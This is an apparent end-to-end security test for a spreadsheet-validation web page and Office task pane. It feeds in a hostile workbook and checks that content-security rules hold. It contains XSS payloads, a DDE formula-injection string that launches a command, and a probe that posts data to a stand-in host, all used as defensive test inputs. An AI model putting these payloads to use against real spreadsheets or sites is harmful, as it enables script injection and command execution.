/**
 * Security of the pages (hostile cell text, no data leaving the machine, a strict CSP), in
 * headless Chromium on the production build (helpers of test/e2e, used read-only): the browser
 * page (index.html, a picked file) and the task pane (taskpane.html on the fake Excel, office.js
 * routed locally) on a workbook full of hostile cell text (HOSTILE_STRINGS: HTML/script, formula
 * injection, terminal escapes).
 *
 * - shown as text: no dialog fires, no element from a cell exists, the issue list, the cell
 *   preview and the draft show the literal strings;
 * - no data leaves the machine: every request the page makes is counted and stays on its own
 *   origin (plus Microsoft's office.js URL in the pane, served locally by the test); anything else
 *   would be aborted and recorded by a catch-all route;
 * - the Content-Security-Policy (header and meta, equal) forbids other origins and inline script,
 *   and really blocks them: an injected inline <script> does not run, a fetch / image / script
 *   from http://example.invalid is refused with a securitypolicyviolation event and never
 *   reaches the network.
 *
 * (The other e2e files check flows, axe and screenshots; this one only security.)
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, BrowserContext, Page, Response } from "playwright-core";
import { readXlsx } from "../../src/hosts/xlsx/read";
import { decodeOoxmlEscapes } from "../../src/hosts/xlsx/xml";
import { HOSTILE_STRINGS } from "../reliability/fuzz-cases";
import { makeHostileWorkbook } from "../reliability/hostile-workbook";
import { ensureBuilt } from "./build";
import {
  OFFICE_JS_CDN,
  chromiumAvailable,
  foreignRequests,
  launchChromium,
  watchTraffic,
  type Traffic,
} from "./chromium";
import { fakeOfficeScript, fakeSheets } from "./fakeOffice";
import { CSP_WATCH, cspViolations, openTab, waitForResults } from "./pane";
import { serveStatic, type StaticServer } from "./serve";

/** Hostile strings as the page shows them in one line of text (no control characters, no line breaks). */
const VISIBLE_HOSTILE = HOSTILE_STRINGS.map(decodeOoxmlEscapes).filter(
  (s) => s === s.trim() && ![...s].some((ch) => ch.charCodeAt(0) < 0x20)
);

/** Elements or attributes that could only have come from cell text. */
const INJECTED = [
  'img[src="x"]',
  "[onerror]",
  "[onload]",
  "svg[onload]",
  "iframe",
  'a[href^="javascript:"]',
  "x",
  "b",
  "script:not([src])",
].join(", ");

/** Initial script: dialogs replaced by recorders too (a second line of evidence besides page.on). */
const TRAPS = `window.__fired = [];
for (const name of ["alert", "confirm", "prompt"]) {
  const real = window[name];
  window[name] = function (...args) { window.__fired.push(name + ":" + String(args[0])); return real.apply(this, args); };
}`;

interface Session {
  context: BrowserContext;
  page: Page;
  traffic: Traffic;
  dialogs: string[];
  /** Requests for another origin that reached the catch-all route (aborted). */
  escaped: string[];
  /** Requests that failed, with the browser's reason (net::ERR_BLOCKED_BY_CSP …). */
  failed: Map<string, string>;
  response: Response | null;
}

interface CspDirectives {
  [directive: string]: string[];
}

function parseCsp(csp: string): CspDirectives {
  const out: CspDirectives = {};
  for (const part of csp.split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) out[name.toLowerCase()] = values;
  }
  return out;
}

/** The CSP the pages must send: only the own origin (and office.js' host for scripts), no inline script. */
function expectStrictCsp(csp: string, extraScriptOrigins: readonly string[]): void {
  const d = parseCsp(csp);
  expect(d["default-src"]).toEqual(["'self'"]);
  expect(d["script-src"]).toEqual(["'self'", ...extraScriptOrigins]);
  expect(d["connect-src"]).toEqual(["'self'"]);
  expect(d["object-src"]).toEqual(["'none'"]);
  expect(d["base-uri"]).toEqual(["'self'"]);
  expect(d["form-action"]).toEqual(["'none'"]);
  for (const [name, values] of Object.entries(d)) {
    // no wildcard, no plain http(s) scheme, no other origin (office.js' host for scripts only)
    for (const v of values) {
      expect(v, `${name} ${v}`).not.toMatch(/^\*$|^https?:$|^http:\/\//);
      if (/^https:\/\//.test(v)) expect(extraScriptOrigins, `${name} ${v}`).toContain(v);
    }
    if (name.startsWith("script-src"))
      expect(
        values.filter((v) => /unsafe-inline|unsafe-eval|data:|blob:/.test(v)),
        name
      ).toEqual([]);
  }
}

/** What the page lets through when something tries to run or load from outside. */
async function probeCsp(
  page: Page
): Promise<{ inlineRan: boolean; fetch: string; violations: string[] }> {
  const before = (await cspViolations(page)).length;
  const result = await page.evaluate(async () => {
    const w = window as unknown as { __inlineRan?: boolean; __remoteRan?: boolean };
    const s = document.createElement("script");
    s.textContent = "window.__inlineRan = true;";
    document.head.appendChild(s);
    const remote = document.createElement("script");
    remote.src = "http://example.invalid/x.js";
    document.head.appendChild(remote);
    const img = new Image();
    img.src = "http://example.invalid/pixel.png";
    document.body.appendChild(img);
    let fetched: string;
    try {
      await fetch("http://example.invalid/leak", { method: "POST", body: "data", mode: "no-cors" });
      fetched = "sent";
    } catch (e) {
      fetched = `refused: ${String(e)}`;
    }
    await new Promise((r) => setTimeout(r, 200));
    img.remove();
    remote.remove();
    s.remove();
    return { inlineRan: w.__inlineRan === true, fetch: fetched };
  });
  const violations = (await cspViolations(page)).slice(before);
  return { ...result, violations };
}

/** Elements from cell text, alerts fired, visible in the page right now. */
async function injected(page: Page): Promise<{ elements: string[]; fired: string[] }> {
  return page.evaluate((selector) => {
    const elements = [...document.querySelectorAll(selector)].map((e) => e.outerHTML.slice(0, 120));
    return { elements, fired: (window as unknown as { __fired: string[] }).__fired ?? [] };
  }, INJECTED);
}

/**
 * The probes' requests for http://example.invalid: the browser lists them as requests, but each
 * was refused by the CSP before any network access (and the catch-all route never saw one).
 */
function expectProbesBlocked(s: Session, before: number, allowed: readonly string[]): void {
  const probes = foreignRequests(
    s.traffic.requests.slice(before),
    new URL(s.page.url()).origin,
    allowed
  );
  expect(probes.every((u) => u.startsWith("http://example.invalid/"))).toBe(true);
  for (const url of probes) expect(s.failed.get(url), url).toMatch(/BLOCKED_BY_CSP|csp/i);
  expect(s.escaped).toEqual([]);
}

const counts: string[] = [];

describe.runIf(chromiumAvailable())("security of the pages: hostile text, no leaks, CSP", () => {
  let server: StaticServer;
  let browser: Browser;
  let hostile: Uint8Array;

  beforeAll(async () => {
    const [dir, b, bytes] = await Promise.all([
      ensureBuilt(),
      launchChromium(),
      makeHostileWorkbook(),
    ]);
    browser = b;
    hostile = bytes;
    server = await serveStatic(dir);
  }, 600_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    console.log(
      `[security] ${VISIBLE_HOSTILE.length} hostile strings checked on screen per page; requests observed — ${counts.join("; ")}`
    );
  });

  async function open(pagePath: string, officeJs?: string): Promise<Session> {
    const context = await browser.newContext({
      viewport: { width: 320, height: 900 },
      acceptDownloads: true,
    });
    await context.addInitScript(CSP_WATCH);
    await context.addInitScript(TRAPS);
    const escaped: string[] = [];
    // a safety net: anything for another origin is recorded and never leaves this machine
    await context.route(
      (url) => url.origin !== server.origin,
      (route) => {
        const url = route.request().url();
        if (officeJs !== undefined && url === OFFICE_JS_CDN)
          return route.fulfill({ status: 200, contentType: "text/javascript", body: officeJs });
        escaped.push(url);
        return route.abort();
      }
    );
    const traffic = watchTraffic(context);
    const failed = new Map<string, string>();
    context.on("requestfailed", (r) => failed.set(r.url(), r.failure()?.errorText ?? "failed"));
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on("dialog", (d) => {
      dialogs.push(`${d.type()}: ${d.message()}`);
      void d.dismiss();
    });
    const response = await page.goto(server.url + pagePath);
    return { context, page, traffic, dialogs, escaped, failed, response };
  }

  /** The checks common to both pages, after validating the hostile workbook. */
  async function expectShownAsText(s: Session): Promise<void> {
    const { page } = s;
    const main = await page.locator("main").innerText();
    const missing = VISIBLE_HOSTILE.filter((h) => !main.includes(`“${h}”`));
    expect(missing, "hostile strings not shown literally in the issue list").toEqual([]);
    expect(await injected(page)).toEqual({ elements: [], fired: [] });

    // the cell preview (browser page) or the selection (pane) of the <img> cell
    await page.locator("button", { hasText: "“<img src=x onerror=alert(1)>”" }).first().click();
    await page.waitForTimeout(300);
    expect(await injected(page)).toEqual({ elements: [], fired: [] });

    await openTab(page, "同比");
    await page.getByTestId("comparison").first().waitFor();
    await openTab(page, "报告");
    await page.waitForFunction(() => (document.querySelector("textarea")?.value ?? "").length > 0);
    const draft = await page.locator("textarea").inputValue();
    expect(draft).toContain("<img src=x onerror=alert");
    expect(draft).toContain("<script>alert");
    expect(await injected(page)).toEqual({ elements: [], fired: [] });
    expect(s.dialogs).toEqual([]);
  }

  it("browser page: hostile text shown as text, only its own origin, CSP enforced", async () => {
    const t0 = performance.now();
    const s = await open("index.html");
    const { page } = s;
    const header = s.response?.headers()["content-security-policy"] ?? "";
    const meta = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute("content");
    expect(meta).toBeTruthy();
    expect(header).toBe(meta);
    expectStrictCsp(meta ?? "", []);

    await page.locator('input[aria-label="选择 Excel 工作簿"]').setInputFiles({
      name: "<img src=x onerror=alert(1)>.xlsx",
      mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      buffer: Buffer.from(hostile),
    });
    await waitForResults(page);
    await expectShownAsText(s);
    // the preview grid shows the cell's text literally
    await openTab(page, "校验");
    await page.locator("button", { hasText: "“<script>alert(1)</script>”" }).first().click();
    const preview = page.getByTestId("cell-preview");
    await preview.waitFor();
    expect(await preview.innerText()).toContain("<script>alert(1)</script>");
    expect(await injected(page)).toEqual({ elements: [], fired: [] });

    // everything the page itself asked for stayed on its origin
    const own = s.traffic.requests.filter((u) => u.startsWith(server.origin)).length;
    const ownTotal = s.traffic.requests.length;
    expect(foreignRequests(s.traffic.requests, server.origin)).toEqual([]);
    expect(ownTotal).toBeGreaterThan(1);
    counts.push(
      `browser page: ${ownTotal} (${own} own origin, ${ownTotal - own} blob:/data:, 0 elsewhere)`
    );

    const probe = await probeCsp(page);
    expect(probe.inlineRan).toBe(false);
    expect(probe.fetch).toMatch(/^refused/);
    expectProbesBlocked(s, ownTotal, []);
    const kinds = probe.violations.map((v) => v.split(" ")[0]);
    expect(kinds).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src/),
        expect.stringMatching(/^connect-src/),
        expect.stringMatching(/^img-src/),
      ])
    );
    expect(probe.violations.every((v) => /example\.invalid|inline/.test(v))).toBe(true);

    // the detectors work, and the CSP is a second wall: markup planted on purpose is found,
    // and its inline handler does not run
    await page.evaluate(() =>
      document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="alert(1)">')
    );
    await page.waitForTimeout(300);
    const planted = await injected(page);
    expect(planted.elements).toHaveLength(1);
    expect(planted.fired).toEqual([]);
    expect((await cspViolations(page)).some((v) => v.startsWith("script-src-attr"))).toBe(true);

    expect(s.dialogs).toEqual([]);
    await s.context.close();
    console.log(`[security] browser page in ${Math.round(performance.now() - t0)} ms`);
  });

  it("task pane: hostile text shown as text, only its own origin + office.js URL, CSP enforced", async () => {
    const t0 = performance.now();
    const officeJs = await fakeOfficeScript({
      sheets: fakeSheets(readXlsx(hostile)),
      platform: "OfficeOnline",
    });
    const s = await open("taskpane.html", officeJs);
    const { page } = s;
    const header = s.response?.headers()["content-security-policy"] ?? "";
    const meta = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute("content");
    expect(header).toBe(meta);
    expectStrictCsp(meta ?? "", ["https://appsforoffice.microsoft.com"]);

    await page.getByRole("button", { name: "运行校验" }).click();
    await waitForResults(page);
    await expectShownAsText(s);
    // 模板: a year that is not one (formula injection typed into 统计年度) cannot be inserted
    await openTab(page, "模板");
    const yearBox = page.getByRole("textbox", { name: "统计年度" });
    for (const year of ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1"]) {
      await yearBox.fill(year);
      expect(await page.getByRole("button", { name: "插入模板" }).isDisabled(), year).toBe(true);
      await page.getByText("请输入四位年份").waitFor();
    }
    await yearBox.fill("2014<img src=x onerror=alert(1)>");
    expect(await yearBox.inputValue()).toBe("2014"); // four characters at most
    expect(await injected(page)).toEqual({ elements: [], fired: [] });

    // validating and clicking issues wrote nothing into the workbook
    const writes = await page.evaluate(
      () =>
        (window as unknown as { __fakeOffice: { writes: unknown[] } }).__fakeOffice.writes.length
    );
    expect(writes).toBe(0);

    expect(foreignRequests(s.traffic.requests, server.origin, [OFFICE_JS_CDN])).toEqual([]);
    expect(s.traffic.requests).toContain(OFFICE_JS_CDN);
    // the pane's own script is preloaded ahead of office.js (fetched in parallel with it) and
    // still downloaded only once
    const entry = await page.locator("script[defer]").getAttribute("src");
    const heads = await page.evaluate(() =>
      [...document.head.querySelectorAll("link[rel=preload], script[src]")].map(
        (e) => e.getAttribute("href") ?? e.getAttribute("src")
      )
    );
    // (first the tiny Internet Explorer notice, src/taskpane/legacy-ie.js, from this origin)
    expect(heads).toEqual([
      entry,
      expect.stringMatching(/^legacy-ie\.[0-9a-f]{8}\.js$/),
      OFFICE_JS_CDN,
      entry,
    ]);
    expect(s.traffic.requests.filter((u) => u === `${server.origin}/${entry}`)).toHaveLength(1);
    // and starts with V8's compile hint (webpack.config.js), which must be its very first line
    const script = await (await fetch(`${server.origin}/${entry}`)).text();
    expect(script.split("\n", 1)[0]).toBe("//# allFunctionsCalledOnLoad");
    const total = s.traffic.requests.length;
    const own = s.traffic.requests.filter((u) => u.startsWith(server.origin)).length;
    const cdn = s.traffic.requests.filter((u) => u === OFFICE_JS_CDN).length;
    counts.push(
      `task pane: ${total} (${own} own origin, ${cdn} office.js URL routed locally, ${total - own - cdn} blob:/data:, 0 elsewhere)`
    );

    const probe = await probeCsp(page);
    expect(probe.inlineRan).toBe(false);
    expect(probe.fetch).toMatch(/^refused/);
    expectProbesBlocked(s, total, [OFFICE_JS_CDN]);
    expect(probe.violations.map((v) => v.split(" ")[0])).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src/),
        expect.stringMatching(/^connect-src/),
        expect.stringMatching(/^img-src/),
      ])
    );

    expect(s.dialogs).toEqual([]);
    await s.context.close();
    console.log(`[security] task pane in ${Math.round(performance.now() - t0)} ms`);
  });
});
